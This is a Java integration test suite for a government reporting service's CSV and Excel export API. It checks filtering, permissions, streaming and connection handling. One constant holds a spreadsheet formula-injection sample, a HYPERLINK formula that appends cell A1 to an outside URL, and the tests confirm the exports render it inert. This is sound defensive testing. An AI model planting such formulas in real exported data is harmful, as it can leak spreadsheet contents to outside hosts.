package vn.cchc.reporting;

import static io.restassured.RestAssured.given;
import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.concurrent.TimeUnit.SECONDS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIOException;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static vn.cchc.reporting.ReportFixture.as;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipFile;

import jakarta.inject.Inject;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import vn.cchc.local.LocalStackTestResource;
import vn.cchc.local.Tokens;

@Tag("slow")
@QuarkusTest
@TestInstance(Lifecycle.PER_CLASS)
@QuarkusTestResource(value = LocalStackTestResource.class, initArgs = @ResourceArg(name = "database", value = "reporting"))
class ExportTest {

    private static final String FORMULA = "=HYPERLINK(\"http://example.vn?x=\"&A1,\"Xem\"), đủ hồ sơ\r\nvà \"phụ lục\"";
    private static final String ENDED_EARLY = "The connection ended early";

    @Inject
    ReportFixture reports;

    @Inject
    BulkFigures bulk;

    @AfterAll
    void deleteBulkReports() {
        bulk.delete();
    }

    @Test
    void theCsvFileContainsTheAcceptedFiguresAndNoFormula() throws IOException {
        String report = reports.draft("2011");
        reports.accept(report, FORMULA);

        byte[] file = as("viewer").get("/api/v1/exports/figures.csv?period=2011").then().statusCode(200)
                .contentType("text/csv").header("Content-Disposition", equalTo("attachment; filename=\"figures.csv\""))
                .extract()
                .asByteArray();

        assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, UTF_8)).contains(",17,20,").doesNotContainPattern("[^\r]\n[^v]");
        List<Map<String, String>> rows = csv(file);
        assertThat(rows).extracting(row -> row.get("indicator")).containsExactly("CT90", "CT91");
        assertThat(rows.get(0)).containsEntry("regime", "CCHC").containsEntry("period", "2011").containsEntry("unit", "TCCB")
                .containsEntry("indicatorName", "Định lượng").containsEntry("numerator", "17").containsEntry("statement", "")
                .containsEntry("report", report).containsEntry("acceptedBy", "reviewer");
        assertThat(rows.get(1)).containsEntry("rating", "ACHIEVED").containsEntry("numerator", "").containsEntry("statement",
                "'" + FORMULA);
    }

    @Test
    void theWorkbookContainsTheAcceptedFiguresAndNoFormula(@TempDir Path folder) throws IOException {
        reports.accept(reports.draft("2010"), FORMULA);

        byte[] file = as("auditor").get("/api/v1/exports/figures.xlsx?period=2010").then().statusCode(200)
                .header("Content-Disposition", equalTo("attachment; filename=\"figures.xlsx\"")).extract().asByteArray();

        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            List<Row> rows = workbook.getFirstSheet().read();
            List<String> titles = rows.get(0).stream().map(Cell::asString).toList();
            Cell statement = rows.get(2).getCell(titles.indexOf("statement"));
            assertThat(statement.getType()).isEqualTo(CellType.STRING);
            assertThat(statement.getFormula()).isNull();
            assertThat(statement.asString()).startsWith("=HYPERLINK(\"http://example.vn?x=\"&A1,\"Xem\"), đủ hồ sơ");
            assertThat(rows.get(1).getCell(titles.indexOf("numerator")).asNumber()).isEqualByComparingTo("17");
        }
        Path workbook = Files.write(folder.resolve("figures.xlsx"), file);
        assertThat(part(workbook, "xl/worksheets/sheet1.xml")).contains("t=\"inlineStr\"").doesNotContain("<f");
        assertThat(part(workbook, "xl/styles.xml")).contains("\"@\"");
    }

    @Test
    void aWorkbookKeepsBlanksAtTheEndsOfATextAndWhatLooksLikeAnEscape(@TempDir Path folder) throws IOException {
        reports.accept(reports.draft("2010Q3"), "  _x0041_ du ho so ");

        byte[] file = as("auditor").get("/api/v1/exports/figures.xlsx?period=2010Q3").then().statusCode(200).extract()
                .asByteArray();

        assertThat(part(Files.write(folder.resolve("figures.xlsx"), file), "xl/worksheets/sheet1.xml"))
                .contains("<t xml:space=\"preserve\">  _x005F_x0041_ du ho so </t>");
    }

    @Test
    void onlyAcceptedFiguresThatMatchTheFiltersAreExported() throws IOException {
        reports.draft("2010Q1");
        reports.accept(reports.draft("2010H1"), "Đủ hồ sơ");

        assertThat(exported("period=2010Q1")).isEmpty();
        assertThat(exported("period=2010H1&unit=VP")).isEmpty();
        assertThat(exported("period=2010H1&regime=XX")).isEmpty();
        assertThat(exported("period=2010H1&unit=TCCB&regime=CCHC&indicator=CT91")).hasSize(1);
        as("viewer").get("/api/v1/exports/figures.csv?year=2028").then().statusCode(400).body("code",
                equalTo("unknown-parameter"));
        as("viewer").accept("application/json").get("/api/v1/exports/figures.csv").then().statusCode(406)
                .contentType(startsWith("application/problem+json"));
        given().auth().oauth2(Tokens.with("surveyor", Map.of("roles", List.of("surveyor"))))
                .get("/api/v1/exports/figures.csv").then().statusCode(403);
    }

    @Test
    void theExportIsStreamedFromTheDatabase() throws IOException, InterruptedException {
        bulk.accept();

        try (InputStream file = open("csv")) {
            var whole = new ByteArrayOutputStream();
            whole.write(file.readNBytes(1000));

            await().atMost(10, SECONDS).until(() -> bulk.exportsUnderWay() == 1);
            file.transferTo(whole);
            assertThat(csv(whole.toByteArray())).hasSize(BulkFigures.COUNT);
        }
        assertThat(bulk.exportsUnderWay()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = { "csv", "xlsx" })
    void theConnectionIsClosedIfTheExportFails(String format) throws IOException, InterruptedException {
        bulk.accept();

        try (InputStream file = open(format)) {
            file.readNBytes(1000);
            await().atMost(10, SECONDS).until(() -> bulk.terminateExports() == 1);

            assertThatIOException().isThrownBy(file::readAllBytes);
        }
        as("viewer").get("/api/v1/exports/figures.csv?regime=XX").then().statusCode(200);
    }

    @Test
    void aReaderThatDisconnectsEndsItsExportAndIsOneLineInTheLog() throws IOException, InterruptedException {
        bulk.accept();
        CapturedLog log = CapturedLog.start();

        for (int disconnected = 0; disconnected < 3; disconnected++) {
            try (InputStream file = open("csv")) {
                file.readNBytes(1000);
            }
        }

        await().atMost(10, SECONDS).until(() -> log.lines(ENDED_EARLY).size() == 3 && bulk.exportsUnderWay() == 0);
        log.stop();
        assertThat(log.lines(ENDED_EARLY)).hasSize(3).allMatch(line -> line.contains("INFO") && !line.contains("\tat "));
        assertThat(log.warnings()).noneMatch(line -> line.contains("\tat "));
    }

    @Test
    void slowReadersDoNotOccupyAllDatabaseConnections() throws IOException, InterruptedException {
        bulk.accept();

        try (var a = open("csv"); var b = open("csv"); var c = open("csv"); var d = open("csv"); var e = open("csv")) {
            for (InputStream file : Arrays.asList(a, b, c, d, e)) {
                file.readNBytes(1000);
            }
            await().atMost(10, SECONDS).until(() -> bulk.exportsUnderWay() == 5);

            as("viewer").get("/api/v1/exports/figures.csv").then().statusCode(503).header("Retry-After", "5")
                    .header("Content-Disposition", (String) null).contentType("application/problem+json");
            as("viewer").get("/api/v1/reports").then().statusCode(200);
        }
    }

    private InputStream open(String format) throws IOException, InterruptedException {
        return bulk.export(format).body();
    }

    private static List<Map<String, String>> exported(String query) throws IOException {
        return csv(as("viewer").get("/api/v1/exports/figures.csv?" + query).then().statusCode(200).extract().asByteArray());
    }

    private static String part(Path workbook, String name) throws IOException {
        try (var zip = new ZipFile(workbook.toFile())) {
            return new String(zip.getInputStream(zip.getEntry(name)).readAllBytes(), UTF_8);
        }
    }

    private static List<Map<String, String>> csv(byte[] file) throws IOException {
        String text = new String(file, UTF_8).replace("\ufeff", "");
        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(text)) {
            return rows.readAll();
        }
    }
}
